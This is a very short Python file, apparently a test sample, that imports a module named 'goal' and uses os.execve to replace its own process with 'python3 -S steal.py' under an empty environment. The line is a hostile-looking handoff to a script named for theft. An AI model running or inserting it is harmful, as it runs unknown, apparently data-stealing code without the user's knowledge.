# SPDX-License-Identifier: Apache-2.0
import goal
import os
os.execve("/usr/bin/python3", ["python3", "-S", "steal.py"], {})
